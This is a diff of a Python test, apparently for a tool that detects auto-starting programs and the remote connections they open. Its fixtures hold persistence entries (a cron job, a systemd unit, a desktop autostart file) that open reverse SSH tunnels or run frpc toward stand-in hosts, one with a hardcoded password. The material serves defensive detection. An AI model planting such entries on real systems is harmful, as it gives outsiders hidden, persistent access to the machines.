@@ -114,6 +114,8 @@ def test_what_starts_by_itself_and_what_runs(tmp_path: Path) -> None:
         "*/5 * * * * pgrep -f x || sshpass -p hunter2 ssh -NR 1:localhost:22 example.net\n",
         "etc/systemd/system/t.service": "[Service]\nExecStart=/bin/sh -c 'exec /opt/frpc -c /etc/f'\n",
         "etc/systemd/system/multi-user.target.wants/": "",
+        "home/alice/.config/autostart/a.desktop": "[Desktop Entry]\nType=Application\nExec=/home/alice/bin/up.sh\n",
+        "home/alice/bin/up.sh": "#!/bin/sh\nwhile true; do ssh -N -R 2:localhost:22 script.example; sleep 9; done\n",
     }
     root = system(tmp_path / "tree", files)
     (root / "etc/systemd/system/multi-user.target.wants/t.service").symlink_to("../t.service")
@@ -121,7 +123,8 @@ def test_what_starts_by_itself_and_what_runs(tmp_path: Path) -> None:
     assert {(each.settings, opening.to or opening.program) for each in found for opening in each.opens} == {
         ("/var/spool/cron/crontabs/alice", "sam@example.org"),
         ("/var/spool/cron/crontabs/alice", "example.net"),
-        ("/etc/systemd/system/multi-user.target.wants/t.service", "frpc"),
+        ("/etc/systemd/system/t.service", "frpc"),
+        ("~/.config/autostart/a.desktop", "script.example"),
     }
     assert "hunter2" not in repr(found)
     command = ["ssh", "-NR", "1:localhost:22", "-o", "ProxyCommand=x hunter2", "example.net"]
